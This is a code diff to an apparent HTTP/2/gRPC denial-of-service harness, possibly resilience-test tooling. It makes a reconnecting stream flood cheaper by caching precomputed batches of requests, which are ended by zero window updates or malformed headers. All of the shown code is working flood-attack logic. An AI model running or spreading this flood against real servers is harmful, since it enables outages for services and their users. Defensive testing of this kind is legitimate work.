@@ -16,10 +16,17 @@ export const byZeroIncrement: Ending = (streamId) => windowUpdate(streamId, 0);
 export const byMalformedRequest: Ending = (streamId) => headers(streamId, Buffer.from([0, 1, 0x41, 0]));
 
 const batchStreams = 512;
+/** What a connection starts with, kept for the next one: 4 MB. */
+const keptBatches = 256;
+/** Stream 1 is the greeting's. */
+const firstId = 3;
 const pacingMs = 10;
 
 /** As fast as the connection takes it; when it ends, on a new one. */
 export function reconnecting(ending: Ending): Attack {
+  // Every connection begins with the same streams: made once, they cost the attacker next to nothing.
+  const beginning = new Streams(ending);
+  const made: Buffer[] = [];
   return async (attacker) => {
     while (!attacker.isStopped) {
       const connection = await attacker.open();
@@ -28,8 +35,18 @@ export function reconnecting(ending: Ending): Attack {
       connection.onFrame = ({ type }) => {
         if (type === frameType.GOAWAY) connection.destroy();
       };
-      const streams = begin(connection, ending);
-      await attacker.flood(connection, () => streams.next(batchStreams), batchStreams);
+      greet(connection, ending);
+      let sent = 0;
+      let rest: Streams | undefined;
+      const nextBatch = (): Buffer => {
+        if (sent === keptBatches) {
+          rest ??= new Streams(ending, firstId + 2 * batchStreams * keptBatches);
+          return rest.next(batchStreams);
+        }
+        if (sent === made.length) made.push(beginning.next(batchStreams));
+        return made[sent++] as Buffer;
+      };
+      await attacker.flood(connection, nextBatch, batchStreams);
       connection.destroy();
       await connection.closed;
     }
@@ -41,7 +58,8 @@ export function once(ending: Ending, streamsPerSecond = Number.POSITIVE_INFINITY
   return async (attacker) => {
     const connection = await attacker.open();
     if (connection === undefined) throw new Error("the attacker could not connect");
-    const streams = begin(connection, ending);
+    greet(connection, ending);
+    const streams = new Streams(ending);
     if (streamsPerSecond === Number.POSITIVE_INFINITY) {
       await attacker.flood(connection, () => streams.next(batchStreams), batchStreams);
     } else {
@@ -62,18 +80,18 @@ async function pace(attacker: Attacker, connection: RawConnection, streams: Stre
   }
 }
 
-function begin(connection: RawConnection, ending: Ending): Streams {
+function greet(connection: RawConnection, ending: Ending): void {
   connection.write(Buffer.concat([clientPreface, settings(), headers(1, firstRequest(methodPath.unary)), ending(1)]));
-  return new Streams(ending);
 }
 
-/** Requests and what ends them, from stream 3 on. */
+/** Requests and what ends them. */
 class Streams {
   readonly #template: Buffer;
   readonly #idsAt: readonly [number, number];
-  #nextId = 3;
+  #nextId: number;
 
-  constructor(ending: Ending) {
+  constructor(ending: Ending, nextId = firstId) {
+    this.#nextId = nextId;
     const request = headers(0, repeatedRequest);
     this.#template = Buffer.concat([request, ending(0)]);
     this.#idsAt = [streamIdAt, request.length + streamIdAt];
